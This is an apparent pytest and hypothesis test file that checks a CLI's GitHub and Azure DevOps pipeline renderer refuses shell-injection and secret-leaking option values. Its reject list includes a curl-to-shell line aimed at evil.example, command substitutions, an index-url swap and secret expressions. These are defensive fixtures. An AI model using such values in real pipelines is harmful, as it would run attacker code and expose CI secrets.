"""`ci`: every option value is checked for the pipeline it goes into and quoted there. The rendered
pipelines are parsed back (YAML) and every shell line split as the shell would (shlex)."""

from __future__ import annotations

import shlex

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from aks_jumpbox.render.ci import CiOptions, azure_devops_pipeline, github_workflow, option_problems
from tests.conftest import run_cli


def _scripts(doc) -> list[str]:
    found = []

    def walk(node):
        if isinstance(node, dict):
            for key, value in node.items():
                if key in ("run", "script", "inlineScript") and isinstance(value, str):
                    found.append(value)
                else:
                    walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(doc)
    return found


def _words(doc) -> list[list[str]]:
    """Each line of each script as shell words; for `cmd | jq ...` and `version=$(cmd | jq ...)`, cmd's."""
    return [
        shlex.split(line.removeprefix("version=$(").split(" | ")[0], comments=True)
        for script in _scripts(doc)
        for line in script.splitlines()
    ]


def _check_rendered(o: CiOptions) -> None:
    for render in (github_workflow, azure_devops_pipeline):
        doc = yaml.safe_load(render(o))
        lines = _words(doc)
        installs = [w for w in lines if w[:3] == ["uv", "tool", "install"] or w[:2] == ["pipx", "install"]]
        assert installs, lines
        for words in installs:
            assert words[-1] == o.install and len(words) == (4 if words[0] == "uv" else 3), words
        commands = [w for w in lines if w and w[0] == "aks-jumpbox"]
        assert commands
        for words in commands:
            assert words[words.index("-f") + 1] == o.spec_file, words
            assert words.count("-f") == 1
        triggers = doc["on"]["push"]["paths"] if "on" in doc else doc["trigger"]["paths"]["include"]
        assert triggers[0] == o.spec_file


@pytest.mark.parametrize(
    "install",
    [
        "aks-jumpbox==0.1.0",
        "aks-jumpbox>=0.1,<0.2",
        "aks-jumpbox!=0.1.1",
        "aks-jumpbox[extra]~=0.1",
        "aks-jumpbox @ git+https://git.example/aks-jumpbox@v0.1.0",
        "git+https://git.example/org/aks-jumpbox.git@main#egg=aks-jumpbox",
        "dist/aks_jumpbox-0.1.0-py3-none-any.whl",
    ],
)
@pytest.mark.parametrize("spec_file", ["jumpbox.yaml", "images/prod-1/jumpbox.yaml", ".config/jumpbox.yaml"])
def test_accepted_values_render_as_single_shell_words(install, spec_file):
    o = CiOptions(install=install, spec_file=spec_file, gallery=True)
    assert option_problems(o) == []
    _check_rendered(o)


@pytest.mark.parametrize(
    "field, value",
    [
        ("install", 'x" ; curl evil.example | sh #'),
        ("install", "aks-jumpbox; id"),
        ("install", "$(id)"),
        ("install", "aks-jumpbox==0.1 --index-url https://evil.example"),
        ("install", "`id`"),
        ("install", "aks-jumpbox; python_version < '3.12'"),
        ("install", "../../outside.whl"),
        ("install", ""),
        ("install", "aks-jumpbox==${{ secrets.TOKEN }}"),
        ("install", "a\nb"),
        ("spec_file", "/etc/jumpbox.yaml"),
        ("spec_file", "../jumpbox.yaml"),
        ("spec_file", "a b.yaml"),
        ("spec_file", "$(id).yaml"),
        ("spec_file", "-rf.yaml"),
        ("spec_file", "x/*.yaml"),
        ("spec_file", "j\u00e9.yaml"),
        ("spec_file", "a//b.yaml"),
        ("spec_file", "x'.yaml"),
        ("branch", "main; id"),
        ("branch", "${{ github.token }}"),
        ("branch", "-x"),
        ("branch", "a..b"),
        ("promote_environment", "$(System.AccessToken)"),
        ("promote_environment", "${{ secrets.X }}"),
        ("service_connection", "conn\nname"),
    ],
)
def test_unsafe_values_are_refused(field, value):
    o = CiOptions(**{field: value})
    assert option_problems(o), (field, value)
    with pytest.raises(ValueError):
        github_workflow(o)


TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)
SHELLISH = st.text(alphabet=" \t\n'\"$`\\;&|<>(){}[]*?!#~=%@,:+./-_aZ09", max_size=12)
# Near-valid values (a requirement or path with shell and YAML characters around it) as well as any text.
INSTALL = st.one_of(
    TEXT,
    st.builds(
        str.__add__, st.from_regex(r"[a-z][a-z0-9-]{0,8}(==|>=|!=|~=)[0-9][0-9.]{0,5}", fullmatch=True), SHELLISH
    ),
)
SPEC_FILE = st.one_of(
    TEXT, st.builds(str.__add__, st.from_regex(r"[a-z]{1,6}(/[a-z0-9._-]{1,6}){0,2}", fullmatch=True), SHELLISH)
)


@settings(max_examples=400, deadline=None)
@given(install=INSTALL, spec_file=SPEC_FILE)
def test_any_text_is_refused_or_rendered_as_one_word(install, spec_file):
    o = CiOptions(install=install, spec_file=spec_file)
    if option_problems(o):
        return
    _check_rendered(o)


@pytest.mark.parametrize(
    "args, needle",
    [
        (["--install", 'x" ; id #'], "--install 'x\" ; id #'"),
        (["-f", "$(id).yaml"], "--file '$(id).yaml'"),
        (["--branch", "main;id"], "--branch"),
        (["--environment", "${{ secrets.X }}"], "--environment"),
    ],
)
def test_the_command_names_the_option_and_writes_nothing(tmp_path, args, needle):
    (tmp_path / "jumpbox.yaml").write_text(_default_spec())
    result = run_cli("ci", "github", *args, cwd=tmp_path)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    (line,) = result.stderr.splitlines()
    assert line.startswith("error: ") and needle in line
    assert not (tmp_path / ".github").exists()


def _default_spec() -> str:
    from aks_jumpbox.core.spec import default_spec_text

    return default_spec_text()
